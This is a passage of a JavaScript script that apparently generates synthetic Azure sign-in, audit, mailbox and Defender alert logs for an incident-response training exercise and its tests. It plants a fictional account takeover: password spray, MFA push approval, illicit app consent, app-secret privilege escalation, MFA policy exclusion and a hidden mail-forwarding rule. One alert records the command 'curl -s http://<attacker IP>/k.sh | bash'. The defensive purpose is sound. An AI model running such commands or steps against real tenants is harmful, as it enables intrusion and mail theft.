/** A stable id for a resource that has one of its own (uniqueId), derived from a text: no draw from the PRNG. */
function uuidFrom(text) {
  const h = createHash("sha256").update(text).digest("hex");
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${"89ab"[parseInt(h[16], 16) % 4]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

/**
 * A VM's instance view (ComputeRP examples/virtualMachineExamples/VirtualMachine_Get_InstanceView.json): provisioning
 * and power state (PowerState/running, /stopped, /deallocated with their display statuses), and its disks.
 */
function instanceView(computerName, disks, power, since) {
  const display = { running: "VM running", stopped: "VM stopped", deallocated: "VM deallocated" }[power];
  const at = rel(since);
  return {
    ...(power === "deallocated" ? {} : { computerName }),
    disks: disks.map((name) => ({ name, statuses: [{ code: "ProvisioningState/succeeded", level: "Info", displayStatus: "Provisioning succeeded", time: at }] })),
    statuses: [
      { code: "ProvisioningState/succeeded", level: "Info", displayStatus: "Provisioning succeeded", time: at },
      { code: `PowerState/${power}`, level: "Info", displayStatus: display },
    ],
  };
}

// ---------------------------------------------------------------------------------------------------------------
// sign-ins (SigninLogs, AADNonInteractiveUserSignInLogs)

const caResults = (overrides = {}) =>
  [
    [policies.requireMfa, "Require MFA for all users", "success", ["Mfa"]],
    [policies.blockLegacy, "Block legacy authentication", "notApplied", []],
    [policies.signInRisk, "Block high sign-in risk", "reportOnlyNotApplied", []],
  ].map(([id, displayName, result, enforcedGrantControls]) => ({ id, displayName, result: overrides[id] ?? result, enforcedGrantControls, enforcedSessionControls: [] }));

const { signIn, interactive: interactiveRows, nonInteractive: nonInteractiveRows } = signInRows(rng, { tenantId, caResults });

const routine = routineSignIns(rng, signIn, { historyDays: HISTORY_DAYS });

function signIns() {
  const { alex, sam, itAdmin, priya, taylor, morgan } = users;

  // 1. Routine work of everyone (breakglass never signs in).
  routine(alex, { work: [net.office, net.office, net.alexHome], home: [net.alexHome] }, { mobile: net.alexMobile });
  const trip = (d) => d >= 5 && d <= 8;
  routine(sam, { work: [net.samHome], home: [net.samHome] }, { skip: trip });
  routine(itAdmin, { work: [net.office], home: [net.office] }, { apps: [apps.azurePortal, apps.officeHome, apps.teams] });
  routine(priya, { work: [net.office, net.priyaHome], home: [net.priyaHome] });
  routine(taylor, { work: [net.office], home: [net.office] });
  routine(morgan, { work: [net.office], home: [net.office] }, { apps: [apps.azurePortal, apps.teams] });

  // Sam's trip to Frankfurt (8 to 5 days ago): his own compliant laptop, MFA satisfied, no or low risk.
  for (let d = 8; d >= 5; d--) {
    const ip = net.samHotel.ips[d % 2];
    const mfa = { authMethod: "Mobile app notification", authDetail: null };
    signIn({ at: onDay(d, 0.5), user: sam, where: net.samHotel, ip, app: apps.officeHome, device: ownDevice(sam), ua: userAgents.edgeWindows, interactive: true, mfa, statusDetail: "MFA completed in Azure AD" });
    if (d === 8) {
      // Identity Protection rated the first sign-in from the new country low (unfamiliar features); an admin dismissed it.
      signIn({ at: onDay(d, 0.2), id: samLowRiskSignInId, user: sam, where: net.samHotel, ip, app: apps.teams, device: ownDevice(sam), ua: userAgents.edgeWindows, interactive: true, mfa, risk: "low", riskState: "dismissed", riskDetail: "adminDismissedAllRiskForUser", riskEvents: ["unfamiliarFeatures"], statusDetail: "MFA completed in Azure AD" });
    }
    for (let i = 0; i < 4; i++) {
      signIn({ at: onDay(d, 1 + i * 2.5 + random()), user: sam, where: net.samHotel, ip, app: pickOne([apps.office, apps.teams, apps.oneDrive]), clientApp: "Mobile Apps and Desktop clients", device: ownDevice(sam), ua: userAgents.officeDesktop, interactive: false });
    }
  }

  // Morgan uses the Azure CLI with the device-code flow from the office (benign; it shows in the tenant-wide hunt).
  for (const d of [11, 4]) {
    signIn({ at: onDay(d, 3.2), user: morgan, where: net.office, ip: net.office.ips[2], app: apps.azureCli, resource: { id: "797f4846-ba00-4fd7-ba43-dac1f8f63013", name: "Windows Azure Service Management API" }, clientApp: "Mobile Apps and Desktop clients", protocol: "deviceCode", device: ownDevice(morgan), ua: userAgents.azureCli, interactive: true, mfa: { authMethod: "Previously satisfied" } });
  }

  // 2. The password spray, a day before the incident: bad passwords across the tenant, then alex's account locks.
  const sprayTargets = [alex, alex, alex, alex, taylor, priya, morgan, sam];
  for (let i = 0; i < 34; i++) {
    const target = i < 22 ? alex : sprayTargets[i % sprayTargets.length];
    const s = spray[i % spray.length];
    signIn({ at: SPRAY - i * int(200, 340), user: target, where: { ...s, asn: sprayAsn }, ip: s.ip, app: apps.exchange, clientApp: "Mobile Apps and Desktop clients", result: "50126", device: unknownDevice("", ""), ua: userAgents.sprayTool, interactive: true, authRequirement: "singleFactorAuthentication" });
  }
  const lockedFrom = SPRAY - 34 * 270;
  for (let i = 0; i < 6; i++) {
    const s = spray[(i * 2) % spray.length];
    signIn({ at: lockedFrom - i * int(240, 420), user: alex, where: { ...s, asn: sprayAsn }, ip: s.ip, app: apps.exchange, clientApp: "Mobile Apps and Desktop clients", result: "50053", device: unknownDevice("", ""), ua: userAgents.sprayTool, interactive: true, authRequirement: "singleFactorAuthentication" });
  }

  // 3. With the password, the attacker fails the MFA challenge three times, then alex approves a push: the incident start.
  const a = { asn: attacker.asn, country: attacker.country, city: attacker.city, state: attacker.state };
  const browser = unknownDevice("Linux", "Firefox 128.0");
  for (const minutes of [41, 27, 13]) {
    signIn({ at: T0 + minutes * M, user: alex, where: a, ip: attacker.a1, app: apps.officeHome, result: "50158", device: browser, ua: userAgents.firefoxLinux, interactive: true, caStatus: "failure", risk: "medium", riskState: "atRisk", riskEvents: ["unfamiliarFeatures"], isRisky: true });
  }
  const start = signIn({
    at: T0,
    id: incidentSignInId,
    user: alex,
    where: a,
    ip: attacker.a1,
    app: apps.officeHome,
    device: browser,
    ua: userAgents.firefoxLinux,
    interactive: true,
    risk: "high",
    riskState: "atRisk",
    riskEvents: ["unfamiliarFeatures", "anonymizedIPAddress"],
    mfa: { authMethod: "Mobile app notification", authDetail: null },
    statusDetail: "MFA completed in Azure AD",
    caPolicies: caResults({ [policies.signInRisk]: "reportOnlyFailure" }),
  });
  // The same request logged twice (Entra ID sends a row again when it re-evaluates it): de-duplicate by Id.
  interactiveRows.push({ ...start, _at: T0 - 1, TimeGenerated: rel(T0 - 4 * M) });

  // 4. After the start: token refreshes, legacy IMAP, device-code sign-ins and a spoofed compliant-device claim.
  const notApplied = caResults({ [policies.requireMfa]: "notApplied" });
  signIn({ at: T0 - 5 * H, user: alex, where: a, ip: attacker.a2, app: apps.exchange, clientApp: "IMAP4", device: {}, interactive: true, authRequirement: "singleFactorAuthentication", caStatus: "notApplied", caPolicies: notApplied, statusDetail: "" });
  signIn({ at: T0 - 1 * D, user: alex, where: a, ip: attacker.a3, app: apps.broker, clientApp: "Mobile Apps and Desktop clients", protocol: "deviceCode", device: unknownDevice("Windows 10", ""), ua: "", interactive: true, authRequirement: "singleFactorAuthentication", caStatus: "notApplied", caPolicies: notApplied, statusDetail: "" });
  signIn({ at: T0 - 1 * D - 4 * H, user: alex, where: a, ip: attacker.a3, app: apps.teams, device: { deviceId: "", displayName: "", operatingSystem: "Windows 10", browser: "Edge 131.0.0", isCompliant: true, isManaged: true, trustType: "" }, ua: userAgents.edgeWindows, interactive: true, authRequirement: "singleFactorAuthentication", caPolicies: notApplied, statusDetail: "" });
  signIn({ at: T0 - 1 * D - 20 * H, user: alex, where: a, ip: attacker.a2, app: apps.office, clientApp: "Mobile Apps and Desktop clients", protocol: "deviceCode", device: unknownDevice("Windows 10", ""), ua: "", interactive: true, authRequirement: "singleFactorAuthentication", caStatus: "notApplied", caPolicies: notApplied, statusDetail: "" });
  const mailSync = { id: mailSyncPro.appId, name: "Mail Sync Pro" };
  const refreshApps = [apps.officeHome, apps.office, mailSync];
  const ips = [attacker.a1, attacker.a2, attacker.a2, attacker.a3];
  for (let t = T0 - 12 * M, i = 0; t > T0 - 2 * D; t -= int(150, 260) * M, i++) {
    const app = refreshApps[i % refreshApps.length];
    const row = signIn({ at: t, user: alex, where: a, ip: app === mailSync ? attacker.a2 : ips[i % ips.length], app, clientApp: app === apps.officeHome ? "Browser" : "Mobile Apps and Desktop clients", device: app === apps.officeHome ? browser : unknownDevice("", ""), ua: app === apps.officeHome ? userAgents.firefoxLinux : "", interactive: false, authRequirement: "singleFactorAuthentication", caPolicies: [] });
    if (i === 2) nonInteractiveRows.push({ ...row, _at: t - 1, TimeGenerated: rel(t - 6 * M) });
  }
  return start;
}

// ---------------------------------------------------------------------------------------------------------------
// AuditLogs

const { audit, rows: auditRows } = auditRowBuilder(rng, { tenantId });

function auditLogs() {
  const { alex, sam, itAdmin, priya, taylor, morgan } = users;
  const office = net.office.ips[0];
  const ua = { key: "User-Agent", value: userAgents.firefoxLinux };

  // Benign administration weeks before the window, and routine background changes.
  audit({ at: 38 * D + 2 * H, op: "Add member to role", category: "RoleManagement", opType: "Assign", initiatedBy: byUser(itAdmin, office), targets: [
    userTarget(morgan, [prop("Role.ObjectID", null, "e0b7c9a1-3f5d-4a7b-9c1e-5d3f7b9a1c02"), prop("Role.DisplayName", null, "Application Administrator"), prop("Role.TemplateId", null, roleIds.appAdmin), prop("Role.WellKnownObjectName", null, "ApplicationAdministrators")]),
  ] });
  audit({ at: 35 * D + 5 * H, op: "User registered security info", category: "UserManagement", opType: "Add", service: "Authentication Methods", reason: "User registered Mobile Phone SMS", initiatedBy: byUser(alex, net.office.ips[1]), targets: [userTarget(alex)] });
  audit({ at: 33 * D + 4 * H, op: "User deleted security info", category: "UserManagement", opType: "Delete", service: "Authentication Methods", reason: "User deleted Authenticator App with Notification and Code", initiatedBy: byUser(sam, net.samHome.ips[0]), targets: [userTarget(sam)] });
  audit({ at: 33 * D + 4 * H - 3 * M, op: "User registered security info", category: "UserManagement", opType: "Add", service: "Authentication Methods", reason: "User registered Authenticator App with Notification and Code", initiatedBy: byUser(sam, net.samHome.ips[0]), targets: [userTarget(sam)] });
  audit({ at: 26 * D + 3 * H, op: "Update conditional access policy", category: "Policy", opType: "Update", service: "Conditional Access", initiatedBy: byUser(itAdmin, office), targets: [
    target(policies.blockLegacy, "Block legacy authentication", "Policy", [prop("ConditionalAccessPolicy", { conditions: { clientAppTypes: ["exchangeActiveSync", "other"] } }, { conditions: { clientAppTypes: ["exchangeActiveSync"] } })]),
  ] });
  audit({ at: 20 * D + 6 * H, op: "Update user", category: "UserManagement", opType: "Update", initiatedBy: byUser(itAdmin, office), targets: [userTarget(priya, [prop("JobTitle", ["HR Generalist"], ["HR Business Partner"]), prop("Included Updated Properties", null, "JobTitle")])] });
  audit({ at: 9 * D + 2 * H, op: "Reset user password", category: "UserManagement", opType: "Update", initiatedBy: byUser(itAdmin, office), targets: [userTarget(taylor)] });
  // A directory sync service touches alex's account in the window, before the incident: routine, so only informational.
  audit({ at: 10 * D + 7 * H, op: "Update user", category: "UserManagement", opType: "Update", initiatedBy: byApp("00000003-0000-0000-c000-000000000000", "Microsoft Substrate Management", "f9d1b3e5-7a9c-4e1b-a3d5-7f9b1d3e5a7c"), targets: [userTarget(alex, [prop("Included Updated Properties", null, "")])] });
  for (const [u, d] of [[priya, 30], [taylor, 17], [morgan, 12], [sam, 24], [priya, 2]]) {
    audit({ at: d * D + int(1, 8) * H, op: "Update user", category: "UserManagement", opType: "Update", initiatedBy: byApp("00000003-0000-0000-c000-000000000000", "Microsoft Substrate Management", "f9d1b3e5-7a9c-4e1b-a3d5-7f9b1d3e5a7c"), targets: [userTarget(u, [prop("Included Updated Properties", null, "")])] });
  }

  // The attacker, as alex, after the incident start.
  const a1 = attacker.a1;
  audit({ at: T0 - 20 * M, op: "User registered security info", category: "UserManagement", opType: "Add", service: "Authentication Methods", reason: "User registered Authenticator App with Notification and Code", initiatedBy: byUser(alex, a1), targets: [userTarget(alex)], details: [ua] });
  audit({ at: T0 - 26 * M, op: "User registered security info", category: "UserManagement", opType: "Add", service: "Authentication Methods", reason: "User registered Alternate Mobile Phone Call", initiatedBy: byUser(alex, a1), targets: [
    userTarget(alex, [prop("StrongAuthenticationUserDetails", [{ PhoneNumber: "+1 425XXXX123", AlternativePhoneNumber: null }], [{ PhoneNumber: "+1 425XXXX123", AlternativePhoneNumber: attackerPhoneMasked }])]),
  ], details: [ua] });
  const consent = guid();
  audit({ at: T0 - 59 * M, correlationId: consent, op: "Add service principal", category: "ApplicationManagement", opType: "Add", initiatedBy: byUser(alex, a1), targets: [
    target(mailSyncPro.spId, "Mail Sync Pro", "ServicePrincipal", [prop("AppAddress", null, [{ AddressType: 0, Address: "https://mailsync-pro.app/auth/callback" }]), prop("AppId", null, mailSyncPro.appId), prop("DisplayName", null, "Mail Sync Pro")]),
  ] });
  audit({ at: T0 - 60 * M + 2, correlationId: consent, op: "Add delegated permission grant", category: "ApplicationManagement", opType: "Assign", initiatedBy: byUser(alex, a1), targets: [
    target(graphSpId, "Microsoft Graph", "ServicePrincipal", [prop("DelegatedPermissionGrant.Scope", null, " Mail.Read offline_access User.Read"), prop("DelegatedPermissionGrant.ConsentType", null, "Principal")]),
  ] });
  audit({ at: T0 - 60 * M, correlationId: consent, op: "Consent to application", category: "ApplicationManagement", opType: "Assign", initiatedBy: byUser(alex, a1), targets: [
    target(mailSyncPro.spId, "Mail Sync Pro", "ServicePrincipal", [
      prop("ConsentContext.IsAdminConsent", null, "False"),
      prop("ConsentContext.IsAppOnly", null, "False"),
      prop("ConsentContext.OnBehalfOfAll", null, "False"),
      prop("ConsentContext.Tags", null, "WindowsAzureActiveDirectoryIntegratedApp"),
      prop("ConsentAction.Permissions", null, `[] => [[Id: ${mailSyncPro.grantId}, ClientId: ${mailSyncPro.spId}, PrincipalId: ${alex.id}, ResourceId: ${graphSpId}, ConsentType: Principal, Scope:  Mail.Read offline_access User.Read, CreatedDateTime: , LastModifiedDateTime ]]; `),
      prop("TargetId.ServicePrincipalNames", null, `${mailSyncPro.appId};https://mailsync-pro.app`),
    ]),
  ], details: [ua, { key: "AppId", value: mailSyncPro.appId }] });
  audit({ at: T0 - 100 * M, op: "Update application \u2013 Certificates and secrets management ", category: "ApplicationManagement", opType: "Update", initiatedBy: byUser(alex, a1), targets: [
    target(financeReporting.appObjectId, "Finance Reporting", "Application", [
      prop("KeyDescription", [`[KeyIdentifier=${financeReporting.oldSecretKeyId},KeyType=Password,KeyUsage=Verify,DisplayName=reporting-prod]`], [`[KeyIdentifier=${financeReporting.oldSecretKeyId},KeyType=Password,KeyUsage=Verify,DisplayName=reporting-prod]`, `[KeyIdentifier=${financeReporting.newSecretKeyId},KeyType=Password,KeyUsage=Verify,DisplayName=sync]`]),
      prop("Included Updated Properties", null, "KeyDescription"),
    ]),
  ], details: [ua, { key: "AppId", value: financeReporting.appId }] });
  audit({ at: T0 - 105 * M, op: "Add service principal credentials", category: "ApplicationManagement", opType: "Update", initiatedBy: byUser(alex, a1), targets: [
    target(financeReporting.spId, "Finance Reporting", "ServicePrincipal", [
      prop("KeyDescription", [], [`[KeyIdentifier=${financeReporting.newSpSecretKeyId},KeyType=Password,KeyUsage=Verify,DisplayName=]`]),
      prop("Included Updated Properties", null, "KeyDescription"),
    ]),
  ], details: [ua, { key: "AppId", value: financeReporting.appId }] });
  // With the app's new secret, the attacker uses its RoleManagement.ReadWrite.Directory permission to make alex a Global Administrator.
  audit({ at: T0 - 150 * M, op: "Add member to role", category: "RoleManagement", opType: "Assign", initiatedBy: byApp(financeReporting.appId, "Finance Reporting", financeReporting.spId), targets: [
    userTarget(alex, [prop("Role.ObjectID", null, "5c1e3a9f-7d5b-4b3f-a1c9-e7d5b3a1f9c7"), prop("Role.DisplayName", null, "Global Administrator"), prop("Role.TemplateId", null, roleIds.globalAdmin), prop("Role.WellKnownObjectName", null, "TenantAdmins")]),
  ] });
  audit({ at: T0 - 170 * M, op: "Update conditional access policy", category: "Policy", opType: "Update", service: "Conditional Access", initiatedBy: byUser(alex, a1), targets: [
    target(policies.requireMfa, "Require MFA for all users", "Policy", [
      prop("ConditionalAccessPolicy", { id: policies.requireMfa, displayName: "Require MFA for all users", state: "enabled", conditions: { users: { includeUsers: ["All"], excludeUsers: [users.breakglass.id] } } }, { id: policies.requireMfa, displayName: "Require MFA for all users", state: "enabled", conditions: { users: { includeUsers: ["All"], excludeUsers: [users.breakglass.id, alex.id] } } }),
    ]),
  ], details: [ua] });
  audit({ at: T0 - 180 * M, op: "Add named location", category: "Policy", opType: "Add", service: "Conditional Access", initiatedBy: byUser(alex, a1), targets: [
    target(namedLocationIds.branchNl, "Branch Office NL", "Policy", [prop("NamedLocation", null, { "@odata.type": "#microsoft.graph.ipNamedLocation", displayName: "Branch Office NL", isTrusted: true, ipRanges: [{ cidrAddress: attacker.range }] })]),
  ], details: [ua] });
  audit({ at: T0 - 210 * M, op: "Update user", category: "UserManagement", opType: "Update", initiatedBy: byUser(alex, a1), targets: [
    userTarget(alex, [prop("MobilePhone", [], [attackerPhone]), prop("OtherMails", [], ["alex.wilber.fin@proton.me"]), prop("Included Updated Properties", null, "MobilePhone, OtherMails")]),
  ], details: [ua] });
}

// ---------------------------------------------------------------------------------------------------------------
// OfficeActivity

const userKeys = { [users.alex.upn]: "10032002F1A7C3B4", [users.sam.upn]: "10032001A9D5E2C7", [users.taylor.upn]: "100320008B4E1F6A" };
const { office, rows: officeRows } = officeRowBuilder(rng, { tenantId, userKeys });

function officeActivity() {
  const { alex, sam, taylor } = users;
  const outlook = "Client=MSExchangeRPC;Outlook;16.0.18129.20158";
  for (let d = HISTORY_DAYS; d >= 0; d--) {
    if (!isWorkday(d)) continue;
    for (const u of [alex, sam]) {
      const traveling = u === sam && d >= 5 && d <= 8;
      const where = u === alex ? net.office : traveling ? net.samHotel : net.samHome;
      const at = onDay(d, 2 + random() * 6);
      if (at === undefined) continue;
      office({ at, recordType: "ExchangeItemAggregated", op: "MailItemsAccessed", user: u, ip: pickOne(where.ips), client: outlook, objectId: "" });
      if (chance(0.5)) office({ at: at - int(10, 90) * M, recordType: "ExchangeItem", op: "Send", user: u, ip: pickOne(where.ips), client: outlook });
    }
    if (chance(0.5)) {
      const at = onDay(d, 3 + random() * 4);
      if (at !== undefined) office({ at, recordType: "SharePointFileOperation", op: "FileAccessed", workload: "SharePoint", user: pickOne([alex, taylor]), ip: pickOne(net.office.ips), objectId: "https://contoso.sharepoint.com/sites/Finance/Shared Documents/Forecast FY27.xlsx", ua: userAgents.edgeWindows });
    }
  }
  // Alex's own, long-standing rule (no forwarding), and Sam's on his trip: both benign.
  office({ at: 30 * D + 3 * H, recordType: "ExchangeAdmin", op: "New-InboxRule", user: alex, ip: net.office.ips[1], client: "Client=OWA;Action=ViaProxy", objectId: "Alex Wilber\\Vendor invoices", parameters: [
    { Name: "Name", Value: "Vendor invoices" }, { Name: "From", Value: "ap@fabrikam.com" }, { Name: "MoveToFolder", Value: "Invoices" }, { Name: "StopProcessingRules", Value: "True" },
  ] });
  office({ at: 7 * D + 1 * H, recordType: "ExchangeAdmin", op: "New-InboxRule", user: sam, ip: net.samHotel.ips[1], client: "Client=OWA;Action=ViaProxy", objectId: "Sam Patel\\Travel newsletters", parameters: [
    { Name: "Name", Value: "Travel newsletters" }, { Name: "SubjectContainsWords", Value: "newsletter" }, { Name: "MoveToFolder", Value: "Newsletters" },
  ] });

  // The attacker: a hidden forwarding rule, then mailbox forwarding, and mail read through the consented app.
  office({ at: T0 - 75 * M, recordType: "ExchangeAdmin", op: "New-InboxRule", user: alex, ip: attacker.a1, client: "Client=OWA;Action=ViaProxy", objectId: "Alex Wilber\\.", ua: userAgents.firefoxLinux, parameters: [
    { Name: "AlwaysDeleteOutlookRulesBlob", Value: "False" },
    { Name: "Force", Value: "False" },
    { Name: "Name", Value: "." },
    { Name: "SubjectOrBodyContainsWords", Value: "invoice;payment;wire transfer;bank details" },
    { Name: "ForwardTo", Value: "alex.wilber.fin@proton.me" },
    { Name: "MoveToFolder", Value: "RSS Subscriptions" },
    { Name: "MarkAsRead", Value: "True" },
    { Name: "StopProcessingRules", Value: "True" },
  ] });
  office({ at: T0 - 240 * M, recordType: "ExchangeAdmin", op: "Set-Mailbox", user: alex, ip: attacker.a2, client: "Client=OWA;Action=ViaProxy", objectId: "Alex Wilber", ua: userAgents.firefoxLinux, parameters: [
    { Name: "Identity", Value: "alex@contoso.com" },
    { Name: "ForwardingSmtpAddress", Value: "smtp:alex.wilber.fin@proton.me" },
    { Name: "DeliverToMailboxAndForward", Value: "True" },
  ] });
  for (let t = T0 - 70 * M; t > T0 - 2 * D; t -= int(300, 500) * M) {
    office({ at: t, recordType: "ExchangeItemAggregated", op: "MailItemsAccessed", user: alex, ip: attacker.a2, client: `Client=REST;Client=RESTSystem;AppId=${mailSyncPro.appId};` });
  }
}

// ---------------------------------------------------------------------------------------------------------------
// SecurityAlert (Defender for Cloud), AADUserRiskEvents, IdentityInfo

const alertRows = [];

function alert(o) {
  const resourceId = o.resourceId.toLowerCase();
  const host = resourceId.slice(resourceId.lastIndexOf("/") + 1);
  const entities = [
    { $id: "2", HostName: host, AzureID: o.resourceId, OSFamily: "Linux", Type: "host" },
    ...o.entities.map((e, i) => ({ $id: String(i + 3), ...e })),
  ];
  const row = {
    _at: o.updatedAt ?? o.at,
    TimeGenerated: rel(o.updatedAt ?? o.at - 2 * M),
    AlertName: o.name,
    DisplayName: o.name,
    AlertSeverity: o.severity,
    Description: o.description,
    ProviderName: "Azure Security Center",
    VendorName: "Microsoft",
    VendorOriginalId: o.vendorId,
    SystemAlertId: o.systemAlertId,
    ProductName: "Azure Security Center",
    ProductComponentName: "Servers",
    AlertLink: `https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/${o.vendorId}/subscriptionId/${subscriptionId}/resourceGroup/${o.resourceGroup}/referencedFrom/alertDeepLink/location/westeurope`,
    Status: o.status ?? "New",
    CompromisedEntity: host,
    Tactics: o.tactics,
    Techniques: JSON.stringify(o.techniques),
    Entities: JSON.stringify(entities),
    ExtendedProperties: JSON.stringify({ "Alert Type": o.alertType, "resourceType": "Virtual Machine", ...o.extended }),
    RemediationSteps: JSON.stringify(o.remediation),
    ResourceId: resourceId,
    SourceComputerId: o.computerId,
    StartTime: rel(o.at),
    EndTime: rel(o.endAt ?? o.at),
    ProcessingEndTime: rel((o.updatedAt ?? o.at) - 1 * M),
    IsIncident: false,
    ConfidenceLevel: "",
    WorkspaceSubscriptionId: subscriptionId,
    WorkspaceResourceGroup: "rg-security",
    Type: "SecurityAlert",
    TenantId: tenantId,
  };
  alertRows.push(row);
}

function securityAlerts() {
  const vm = `/subscriptions/${subscriptionId}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/vm-web-01`;
  const buildVm = `/subscriptions/${subscriptionId}/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-build-01`;
  const computer = "6b4d2f0e-8c6a-4e4c-b2a0-8e6c4a2f0d19";
  const execution = {
    at: T0 - 1 * D - 10 * H,
    name: "Suspicious process executed",
    severity: "High",
    description: "Machine logs indicate that the suspicious process 'curl -s http://45.137.20.88/k.sh | bash' was running on vm-web-01. This behavior is often associated with attackers downloading and running tools after gaining access.",
    vendorId: "2517167351993250000_8f3e1a5c-7b9d-4c2e-a6f8-1d3b5e7a9c20",
    systemAlertId: "8f3e1a5c-7b9d-4c2e-a6f8-1d3b5e7a9c20",
    resourceId: vm,
    resourceGroup: "rg-web",
    computerId: computer,
    tactics: "Execution",
    techniques: ["T1059"],
    alertType: "VM_SuspiciousProcessExecution",
    entities: [
      { Address: attacker.a2, Type: "ip" },
      { ProcessId: "0x2f41", CommandLine: `curl -s http://${attacker.a2}/k.sh | bash`, ElevationToken: "Default", Type: "process" },
      { Name: "azureuser", Host: { $ref: "2" }, Type: "account" },
    ],
    extended: { "Suspicious Process": "/usr/bin/bash", "Command Line": `curl -s http://${attacker.a2}/k.sh | bash`, "User Name": "azureuser" },
    remediation: ["Review the process and the account that ran it.", "If the activity is not legitimate, isolate the machine and take forensic snapshots of its disks before any change."],
  };
  alert(execution);
  // Defender writes the alert again when it is seen again: same SystemAlertId, later end time.
  alert({ ...execution, name: "Suspicious process executed [seen multiple times]", endAt: T0 - 1 * D - 13 * H, updatedAt: T0 - 1 * D - 13 * H });
  alert({
    at: T0 - 1 * D - 11 * H,
    name: "Suspicious SSH key addition and credential file access",
    severity: "Medium",
    description: "A new key was added to /home/azureuser/.ssh/authorized_keys by a process that then read /etc/shadow on vm-web-01. Attackers add SSH keys to keep access and read credential files to move laterally.",
    vendorId: "2517167312449870000_2c4e6a8b-0d2f-4b4d-9f6a-8c0e2a4c6e31",
    systemAlertId: "2c4e6a8b-0d2f-4b4d-9f6a-8c0e2a4c6e31",
    resourceId: vm,
    resourceGroup: "rg-web",
    computerId: computer,
    tactics: "Persistence, CredentialAccess",
    techniques: ["T1098.004", "T1003.008"],
    alertType: "VM_SshKeyAddition",
    entities: [
      { Address: attacker.a2, Type: "ip" },
      { Name: "authorized_keys", Directory: "/home/azureuser/.ssh", Type: "file" },
      { Name: "shadow", Directory: "/etc", Type: "file" },
    ],
    extended: { "File Path": "/home/azureuser/.ssh/authorized_keys", "User Name": "azureuser" },
    remediation: ["Remove keys you did not add from authorized_keys after the disks have been snapshotted.", "Rotate every credential stored on the machine."],
  });
  // Unrelated and informational: a scan from the build server, with Discovery only.
  alert({
    at: 6 * D + 3 * H,
    name: "Network scanning activity detected",
    severity: "Informational",
    description: "vm-build-01 connected to many hosts on the same port within a short time. This is often a network scan; build servers running dependency checks can do the same.",
    vendorId: "2517171840129990000_4e6a8c0d-2f4b-4d6f-8b0c-0e2c4a6e8f42",
    systemAlertId: "4e6a8c0d-2f4b-4d6f-8b0c-0e2c4a6e8f42",
    resourceId: buildVm,
    resourceGroup: "rg-build",
    computerId: "9d7b5f3e-1c9a-4b7d-a5e3-1f9d7b5c3a61",
    tactics: "Discovery",
    techniques: ["T1046"],
    alertType: "VM_NetworkScanning",
    entities: [{ Address: "10.20.1.0", Type: "ip" }],
    extended: { "Destination Port": "443" },
    remediation: ["Confirm whether the build pipeline ran a scan at that time."],
  });
}

const { riskDetection, rows: riskRows, detections: riskDetections } = riskDetectionRows({ tenantId });
const riskIds = {
  unfamiliar: "b3c1e9a7f5d3b1e9c7a5f3d1b9e7c5a3f1d9b7e5c3a1f9d7b5e3c1a9f7d5b3e1",
  anonymized: "e8f6d4b2a0c8e6f4d2b0a8c6e4f2d0b8a6c4e2f0d8b6a4c2e0f8d6b4a2c0e8f6",
  samTrip: "4a2c0e8f6d4b2a0c8e6f4d2b0a8c6e4f2d0b8a6c4e2f0d8b6a4c2e0f8d6b4a2c",
};

function riskEvents(start) {
  const a = { city: attacker.city, state: attacker.state, country: attacker.country };
  const base = { user: users.alex, where: a, ip: attacker.a1, at: T0, detectedAt: T0 - 1 * M, requestId: incidentSignInId, correlationId: start.CorrelationId, ua: userAgents.firefoxLinux, state: "atRisk" };
  riskDetection({ ...base, id: riskIds.unfamiliar, type: "unfamiliarFeatures", level: "high" });
  riskDetection({ ...base, id: riskIds.anonymized, type: "anonymizedIPAddress", level: "medium" });
  const samSignIn = interactiveRows.find((r) => r.Id === samLowRiskSignInId);
  riskDetection({ user: users.sam, where: net.samHotel, ip: samSignIn.IPAddress, at: samSignIn._at, detectedAt: samSignIn._at - 1 * M, updatedAt: 5 * D + 2 * H, requestId: samLowRiskSignInId, correlationId: samSignIn.CorrelationId, ua: userAgents.edgeWindows, id: riskIds.samTrip, type: "unfamiliarFeatures", level: "low", state: "dismissed", riskDetail: "adminDismissedAllRiskForUser" });
}

function identityInfo() {
  const rows = [];
  const roles = { alex: ["Global Administrator"], itAdmin: ["Global Administrator", "Conditional Access Administrator"], breakglass: ["Global Administrator"], morgan: ["Application Administrator"] };
  for (const [key, u] of Object.entries(users)) {
    for (const [at, current] of [[8 * D + 4 * H, false], [1 * D + 4 * H, true]]) {
      const [given, ...rest] = u.name.split(" ");
      rows.push({
        _at: at,
        TimeGenerated: rel(at),
        AccountName: u.upn.split("@")[0],
        AccountDomain: domain,
        AccountUPN: u.upn,
        AccountObjectId: u.id,
        AccountTenantId: tenantId,
        GivenName: key === "breakglass" ? "" : given,
        Surname: key === "breakglass" ? "" : rest.join(" ").replace(/\s*\(.*\)$/, ""),
        Department: u.department ?? "",
        JobTitle: u.jobTitle ?? "",
        MailAddress: key === "breakglass" ? "" : u.upn,
        Manager: key === "alex" ? users.taylor.upn : "",
        City: key === "sam" ? "Chicago" : "Seattle",
        Country: "US",
        IsAccountEnabled: true,
        AccountCreationTime: rel(u.created),
        // Alex became a Global Administrator during the incident: the earlier snapshot does not have it.
        AssignedRoles: key === "alex" && !current ? [] : (roles[key] ?? []),
        GroupMembership: [u.department ?? "IT", "All Employees"].filter((g, i, all) => all.indexOf(g) === i),
        RiskLevel: key === "alex" && current ? "High" : "None",
        RiskState: key === "alex" && current ? "AtRisk" : key === "sam" ? "Dismissed" : "None",
        IsMFARegistered: true,
        UserType: "Member",
        SourceSystem: "AzureActiveDirectory",
        Type: "IdentityInfo",
      });
    }
  }
  return rows;
}

// ---------------------------------------------------------------------------------------------------------------
// expected.json: the planted facts as data, for the tests and the exercise's debrief (docs/scenarios.md explains them)

function expected() {
  const { alex, sam, morgan } = users;
  const vm = `/subscriptions/${subscriptionId}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/vm-web-01`;
  const f = (code, count, severity, step, note) => ({ code, count, severity, step, note });
  return {
    $comment: "Written by scripts/generate-contoso.mjs. Times are relative to the start of the run. expectedFindings: what `azir investigate alex@contoso.com` (lookback 14d, baseline 30d) must report; severity is the highest of them.",
    victim: { upn: alex.upn, id: alex.id },
    lookback: "14d",
    baseline: "30d",
    incidentStart: rel(T0),
    incidentSignInId,
